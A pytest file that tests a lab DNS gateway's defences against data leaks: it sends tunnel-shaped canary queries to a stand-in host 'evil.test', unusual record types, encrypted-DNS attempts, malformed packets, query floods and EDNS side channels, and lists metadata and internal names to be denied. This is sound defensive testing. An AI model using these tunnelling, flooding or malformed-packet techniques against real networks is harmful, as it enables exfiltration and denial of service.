"""DNS is no channel, tells no lies, and cannot be made to."""
# SPDX-License-Identifier: GPL-3.0-or-later

import itertools
import secrets
import socket
import struct
import time

import pytest

from lab import addresses as at
from lab import dns_wire as dns
from lab import tls_wire, wait, web
from lab.case import Live
from lab.dns_questions import ask, ask_tcp, fresh

threat = pytest.mark.threat


# --- Denied names are never asked upstream ---


@threat("T034")
@pytest.mark.parametrize("asker", [ask, ask_tcp], ids=["udp", "tcp"])
def test_a_denied_name_is_answered_by_the_gateway_itself(case, lab, asker):
    for qtype in (dns.A, dns.AAAA):
        answer = asker(lab, f"{case.canary}.evil.test", qtype)
        assert answer.rcode == dns.NOERROR
        assert at.stands_for_denied(answer.addresses()), "the client meets a 403 there, not a puzzle"
    case.no_query()
    record = case.record(phase="dns", action="blocked", reason="host_not_allowed")
    assert record["host"] == f"{case.canary}.evil.test"


@threat("T034")
def test_a_tunnel_shaped_stream_of_questions_carries_nothing(case, lab):
    with lab.agent.entered(), socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as link, Live(lab, lab.neighbour):
        link.settimeout(2)
        link.connect((at.GW, 53))
        for _ in range(1000):
            name = f"{secrets.token_hex(30)}.{secrets.token_hex(30)}.{case.canary}.evil.test"
            link.send(dns.question(name))
            assert dns.parse(link.recv(4096)).rcode in (dns.NOERROR, dns.REFUSED, dns.NXDOMAIN)
    for _ in range(50):
        assert ask_tcp(lab, f"{secrets.token_hex(30)}.{case.canary}.evil.test").rcode == dns.NOERROR
    case.no_query()
    case.record(phase="dns", action="blocked")


QTYPES = {
    "TXT": 16, "NULL": 10, "MX": 15, "SRV": 33, "NAPTR": 35, "CAA": 257, "ANY": 255, "AXFR": 252, "IXFR": 251, "HINFO": 13,
    "KEY": 25, "SIG": 24, "OPT": 41, "TKEY": 249, "TSIG": 250, "TYPE65280": 65280, "SVCB": 64, "HTTPS": 65, "DNAME": 39,
    "CNAME": 5, "NS": 2, "SOA": 6, "PTR": 12, "DS": 43, "DNSKEY": 48, "type 0": 0, "type 65535": 65535,
}  # fmt: skip


@threat("T036")
@pytest.mark.parametrize("qtype", QTYPES.values(), ids=QTYPES.keys())
def test_unusual_types_of_a_denied_name_are_not_asked(case, lab, qtype):
    answer = ask(lab, f"{case.canary}.evil.test", qtype)
    assert answer is None or answer.records == []
    case.no_query()


@threat("T036")
@pytest.mark.parametrize("qtype", [q for q in QTYPES.values() if q not in (33, 64, 65)])
def test_unusual_types_of_an_allowed_name_are_not_asked_either(case, lab, qtype):
    name = fresh(case)
    lab.dns.set(name, a=[at.WILD], extra=[(qtype, [dns.record(qtype, b"\x05leaks")])])
    answer = ask(lab, name, qtype)
    assert answer is None or answer.records == []
    case.no_query()
    case.canary_may_leave = True
    assert ask(lab, name).addresses() == [at.WILD]


@threat("T036")
def test_reverse_lookups_are_answered_empty_and_never_asked(case, lab):
    for name in ("66.32.33.45.in-addr.arpa", "2.0.77.10.in-addr.arpa", f"{case.canary}.ip6.arpa", "_dns.resolver.arpa"):
        answer = ask(lab, name, dns.PTR)
        assert answer.records == []
        case.no_query(name)


# --- Other resolvers ---


@threat("T037")
@pytest.mark.parametrize("server", ["1.1.1.1", "8.8.8.8", at.EV, at.NS, at.EV6], ids=lambda s: s)
def test_whatever_resolver_is_asked_the_gateway_answers(case, lab, server):
    with lab.agent.entered():
        denied = dns.ask(server, dns.question(f"{case.canary}.evil.test"))
        allowed = dns.ask(server, dns.question("allowed.test"))
        denied_tcp = dns.ask_tcp(server, dns.question(f"{case.canary}.evil.test"))
    assert at.leads_to_refusal(denied.addresses())
    assert denied_tcp.addresses() == denied.addresses()
    assert allowed.addresses() == [at.AL]
    case.no_query()
    case.no_packet()


@threat("T037")
@pytest.mark.parametrize("target", [at.EV, at.NS], ids=["attacker", "resolver"])
def test_encrypted_dns_to_anybody_is_refused(case, agent, target):
    hello = tls_wire.client_hello("dns.google")
    assert agent.call("tcp", target, 853, hello)[0] == "refused"
    for port in (853, 8853, 784):
        assert agent.call("udp", target, port, case.canary.encode() * 60, wait=1.0)[0] == "prohibited"


@threat("T037")
def test_bytes_that_are_no_dns_do_not_pass_over_tcp_53(case, lab):
    payload = case.canary.encode() * 4096
    answer, _ = web.talk(lab.agent, at.EV, 53, payload, wait=3)
    assert len(answer) < 100
    case.no_packet()


@threat("T038")
def test_the_agents_resolver_file_names_the_gateway(case, user_agent):
    status, text = user_agent.call("run", ["getent", "ahosts", f"{case.canary}.evil.test"])
    assert status == 0
    addresses = {line.split()[0] for line in text.decode().splitlines()}
    assert all(at.leads_to_refusal([address]) for address in addresses)
    case.no_query()


@threat("T039")
def test_browsers_are_told_to_leave_dns_over_https_alone(case, lab):
    assert ask(lab, "use-application-dns.net").rcode == dns.NXDOMAIN
    case.no_query("use-application-dns.net")


@threat("T039")
@pytest.mark.parametrize("resolver", ["dns.google", "cloudflare-dns.com", "one.one.one.one", "dns.quad9.net"])
def test_dns_over_https_hosts_are_denied_unless_allowed(case, lab, resolver):
    answer, how = web.talk(lab.agent, at.EV, 443, tls_wire.client_hello(resolver))
    assert tls_wire.verdict(answer, how) in ("handshake", "alert"), "the gateway's, for its page: nobody was dialled"
    case.no_syn()
    case.record(phase="tls", action="blocked", host=resolver, reason="host_not_allowed")


# --- Questions that are none ---


def _raw_queries(case):
    canary = bytes([len(case.canary)]) + case.canary.encode()
    tail = b"\0\1\0\1"
    good = dns.question(f"{case.canary}.evil.test")
    evil = canary + b"\4evil\4test\0"

    def message(name, head=struct.pack("!HHHHHH", 7, 0x100, 1, 0, 0, 0)):
        return head + name + tail

    shapes = {
        "self pointer": message(b"\xc0\x0c"),
        "forward pointer": message(b"\xc0\x40" + b"\0" * 60),
        "pointer to the header": message(canary + b"\xc0\x00"),
        "200 pointers": message(b"".join(b"\xc0" + bytes([12 + 2 * n]) for n in range(100)) + b"\0"),
        "label 0x40": message(b"\x40" + b"a" * 64 + b"\0"),
        "label 0x80": message(b"\x80" + b"a" * 128 + b"\0"),
        "300 bytes": message((b"\x3f" + b"a" * 63) * 5 + b"\0"),
        "128 one-byte labels": message(b"\1a" * 128 + evil),
        "past the packet": struct.pack("!HHHHHH", 7, 0x100, 1, 0, 0, 0) + b"\x3f" + canary,
        "no question": good[:4] + b"\0\0" + good[6:],
        "two questions": good[:4] + b"\0\2" + good[6:] + b"\5other\4evil\4test\0" + tail,
        "65535 questions": good[:4] + b"\xff\xff" + good[6:],
        "an answer count": good[:6] + b"\0\1" + good[8:] + dns.a(at.EV)[0],
        "an authority count": good[:8] + b"\0\1" + good[10:] + dns.a(at.EV)[0],
        "500 trailing bytes": good + case.canary.encode() * 32,
    }
    for size in range(12):
        shapes[f"{size} bytes"] = good[:size]
    for opcode in (1, 2, 4, 5, 6, 15):
        shapes[f"opcode {opcode}"] = good[:2] + struct.pack("!H", 0x0100 | opcode << 11) + good[4:]
    for name, bit in (("response", 0x8000), ("authoritative", 0x0400), ("truncated", 0x0200), ("recursion", 0x0080)):
        shapes[f"flag {name}"] = good[:2] + struct.pack("!H", 0x0100 | bit) + good[4:]
    for klass in (3, 4, 255, 0):
        shapes[f"class {klass}"] = dns.question(f"{case.canary}.evil.test", qclass=klass)
    return shapes


@threat("T044", "T045")
def test_malformed_questions_are_answered_or_dropped_and_never_asked(case, lab):
    for what, message in _raw_queries(case).items():
        with lab.agent.entered():
            answer = dns.ask(at.GW, message, timeout=0.15)
        if answer is not None and not what.startswith("flag"):
            assert answer.records == [], what
    for message in _raw_queries(case).values():
        with web.connected(lab.agent, at.GW, 53, timeout=0.1) as link:
            link.sendall(struct.pack("!H", len(message)) + message)
            dns.read_tcp(link)
    case.no_query()


@threat("T044")
def test_ten_thousand_malformed_questions_cost_next_to_nothing(case, lab, router):
    shapes = list(_raw_queries(case).values())
    before = router.cpu_seconds()
    with Live(lab, lab.neighbour):
        with lab.agent.entered(), socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as link:
            link.connect((at.GW, 53))
            for message in itertools.islice(itertools.cycle(shapes), 10000):
                try:
                    link.send(message or b"\0")
                except ConnectionRefusedError:
                    pytest.fail("the DNS server is gone")
        case.control()
    assert router.cpu_seconds() - before < 5, "well under a millisecond each"
    case.no_query()


@threat("T045")
def test_the_version_is_nobodys_business(case, lab):
    for name in ("version.bind", "version.server", "hostname.bind", "id.server"):
        answer = ask(lab, name, dns.TXT, qclass=3)
        assert answer.rcode == dns.REFUSED
        assert answer.records == []
    del case


@threat("T045")
@pytest.mark.parametrize("stream", [b"\0\0", b"\0\1x", b"\xff\xffx", b"\0\x0c" + b"\xff" * 12], ids=["0", "1", "65535", "12"])
def test_odd_tcp_streams_end_and_disturb_nobody(case, lab, stream):
    with Live(lab, lab.neighbour):
        web.talk(lab.agent, at.GW, 53, stream, wait=0.5)
    del case


# --- Names ---


@threat("T046", "C12")
def test_mixed_case_is_echoed_and_a_trailing_dot_is_the_same_name(case, lab):
    answer = ask(lab, "aLLoWed.TeSt")
    assert answer.addresses() == [at.AL]
    assert answer.name == "aLLoWed.TeSt"
    assert answer.records[0][0] == "aLLoWed.TeSt"
    assert ask(lab, "allowed.test.").addresses() == [at.AL]
    del case


@threat("T046", "T123")
@pytest.mark.parametrize("name", [
    "allowed.test.evil.test", "allowed.test.corp.example", "notallowed.test", "xallowed.test", "allowed.testx", "awild.test",
    "wild.test.evil.test", "allowed.test.co.uk", "_dmarc.allowed.test", "www.allowed.test", "xn--80ak6aa92e.test", "cdn-denied.test",
])  # fmt: skip
def test_names_beside_the_allowed_ones_are_denied(case, lab, name):
    answer = ask(lab, f"{name}")
    looks_completed = name.startswith(("allowed.test.", "wild.test.")) and not name.endswith(".co.uk")
    assert answer.rcode == dns.NXDOMAIN if looks_completed else at.leads_to_refusal(answer.addresses())
    assert case.record(host=name)["detail"].endswith("search domain?") == looks_completed
    case.no_query(name)


@threat("T046", "T123")
@pytest.mark.parametrize("name", ["a.wild.test", "a.b.wild.test", "wild.test", "a_b.wild.test", "_dmarc.wild.test", "xn--a.wild.test"])
def test_names_below_a_wildcard_are_allowed(case, lab, name):
    answer = ask(lab, name)
    assert answer.addresses() in ([at.WILD], []), answer
    if "_" not in name and "xn--" not in name:
        assert answer.addresses() == [at.WILD]
    del case


@threat("T046", "T059")
@pytest.mark.parametrize("wire", [
    b"\x07allowed\x00\x04test\x00", b"\x0callowed.test\x00", b"\x09allowed\xc2\xad\x04test\x00", b"\x08\xd0\xb0llowed\x04test\x00",
    b"\x07allow\x00d\x04test\x00", b"\x08 allowed\x04test\x00", b"\x08allowed\n\x04test\x00", b"\x01*\x04wild\x04test\x00",
], ids=repr)  # fmt: skip
def test_names_that_only_look_alike_are_not_asked(case, lab, wire):
    mark = lab.dns.mark()
    answer = ask(lab, wire)
    assert answer is None or at.AL not in answer.addresses()
    assert lab.dns.asked[mark:] == []
    del case


@threat("T050", "T128")
@pytest.mark.parametrize("name", [
    "localhost", "foo.localhost", "host.docker.internal", "gateway.docker.internal", "kubernetes.docker.internal", "metadata",
    "metadata.google.internal", "instance-data", "x.local", "x.onion", "x.internal", "x.home.arpa", "wpad", "isatap", "mitm.it",
    "proxy", "agent",
])  # fmt: skip
def test_special_names_lead_to_no_host(case, lab, name):
    answer = ask(lab, name)
    itself = ["127.0.0.1"] if name.endswith("localhost") else []  # RFC 6761: the client, not a host
    assert answer.addresses() == itself or at.leads_to_refusal(answer.addresses())
    assert answer.rcode in (dns.NXDOMAIN, dns.NOERROR, dns.REFUSED)
    case.no_query(name)


@threat("T050")
def test_a_single_label_is_not_asked(case, lab):
    assert ask(lab, case.canary).records == []
    case.no_query()


def test_the_gateways_own_name_is_the_gateway(case, lab):
    assert ask(lab, "gateway.internal").addresses() == [at.GW]
    case.no_query("gateway.internal")


# --- Resources ---


@threat("T051")
def test_a_flood_of_new_names_below_a_wildcard_is_bounded(case, lab):
    case.canary_may_leave = True
    mark = lab.dns.mark()
    with Live(lab, lab.neighbour), lab.agent.entered(), socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as link:
        link.connect((at.GW, 53))
        begin = time.monotonic()
        for _ in range(20000):
            link.send(dns.question(f"{secrets.token_hex(8)}.wild.test"))
        seconds = time.monotonic() - begin
        # What came of the flood until then may have used up what this client may ask for at once.
        wait.until(lambda: ask(lab, "allowed.test").addresses(), "an answer to the client that flooded")
        case.control()
    asked = len(lab.dns.asked[mark:])
    assert asked < 2 * 2 * (400 + 100 * (seconds + 5)) + 1000, f"{asked} questions upstream in {seconds:.1f} s"
    assert ask(lab, "allowed.test").addresses() == [at.AL]


@threat("T051", "T135")
def test_idle_and_unread_tcp_connections_do_not_stall_dns(case, lab):
    links = []
    with lab.agent.entered():
        for _ in range(1000):
            link = socket.socket()
            link.setblocking(False)
            link.connect_ex((at.GW, 53))
            links.append(link)
    try:
        with web.connected(lab.agent, at.GW, 53, timeout=1) as greedy:
            question = dns.question("allowed.test")
            blob = (struct.pack("!H", len(question)) + question) * 10000
            try:
                greedy.sendall(blob)  # and never reads
            except OSError:
                pass
            with Live(lab, lab.neighbour):
                assert ask(lab, "allowed.test").addresses() == [at.AL]
                case.control()
    finally:
        for link in links:
            link.close()
    wait.until(lambda: ask_tcp_or_none(lab), "TCP to be served again")


def ask_tcp_or_none(lab):
    try:
        return ask_tcp(lab, "allowed.test")
    except OSError:
        return None


@threat("T051")
def test_a_silent_resolver_stalls_nothing_else(case, lab):
    case.canary_may_leave = True
    web.http(lab.agent, "kept.wild.test", address=at.WILD)
    lab.dns.set("lasting.wild.test", a=[at.WILD], ttl=300)
    assert ask(lab, "lasting.wild.test").addresses() == [at.WILD]
    lab.dns.silent = True
    try:
        with lab.agent.entered(), socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as link:
            link.connect((at.GW, 53))
            for _ in range(30):
                link.send(dns.question(fresh(case)))
            begin = time.monotonic()
            assert at.leads_to_refusal(ask(lab, f"{case.canary}.evil.test").addresses())
            assert ask(lab, "lasting.wild.test").addresses() == [at.WILD], "what is cached"
            assert web.http(lab.agent, "denied.test", address=at.EV).status == 403
            assert web.http(lab.agent, "lasting.wild.test").body == b"WILD\n"
            assert time.monotonic() - begin < 1.0
        with lab.agent.entered():
            begin = time.monotonic()
            answer = dns.ask(at.GW, dns.question(fresh(case)), timeout=8)
            assert answer is not None and answer.rcode == dns.SERVFAIL
            assert time.monotonic() - begin < 7
    finally:
        lab.dns.silent = False

    def recovered():
        answer = ask(lab, fresh(case))
        return answer and answer.addresses() == [at.WILD]

    wait.until(recovered, "the resolver to be asked again", 15)


# --- Controls ---


@threat("C12")
def test_address_questions_are_answered_quickly_in_both_families(case, lab):
    begin = time.monotonic()
    answers = ask(lab, "allowed.test"), ask(lab, "allowed.test", dns.AAAA)
    assert answers[0].addresses() == [at.AL]
    assert (answers[1].rcode, answers[1].records) == (dns.NOERROR, [])
    assert time.monotonic() - begin < 0.5
    assert ask(lab, "dual.wild.test", dns.AAAA).addresses() == [at.WILD6]
    assert ask_tcp(lab, "allowed.test").addresses() == [at.AL]
    assert ask(lab, "allowed.test", edns=[]).addresses() == [at.AL]
    del case


def test_edns_options_of_the_client_stay_here(case, lab):
    """Client subnet, cookies, padding: options are a channel, also on an allowed name."""
    name = f"e{secrets.token_hex(4)}.wild.test"
    options = [(8, b"\0\1\x18\0\x2d\x21\x20"), (10, case.canary.encode()[:8]), (12, case.canary.encode()), (65001, case.canary.encode())]
    assert ask(lab, name, edns=options).addresses() == [at.WILD]
    case.no_query()
    case.no_canary()


def test_answers_are_cached_and_asked_once(case, lab):
    case.canary_may_leave = True
    name = fresh(case)
    lab.dns.set(name, a=[at.WILD], ttl=60)
    mark = lab.dns.mark()
    for _ in range(20):
        assert ask(lab, name).addresses() == [at.WILD]
    assert len([q for q in lab.dns.asked[mark:] if q.name == name and q.qtype == dns.A]) == 1


def test_clients_asking_at_once_share_a_question_upstream(case, lab):
    case.canary_may_leave = True
    name = fresh(case)
    mark = lab.dns.mark()

    def delayed(query):
        time.sleep(0.2)
        return [dns.reply(query.raw, dns.a(at.WILD, ttl=60) if query.qtype == dns.A else [])]

    lab.dns.script(name, delayed)
    links = []
    with lab.neighbour.entered():  # the agent's budget may be used up by the floods above
        for _ in range(20):
            link = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
            link.settimeout(5)
            link.connect((at.GW, 53))
            link.send(dns.question(name))
            links.append(link)
    for link in links:
        with link:
            assert dns.parse(link.recv(4096)).addresses() == [at.WILD]
    asked = [q for q in lab.dns.asked[mark:] if q.name == name and q.qtype == dns.A]
    assert len(asked) <= 4, "one for each worker, asked again once"
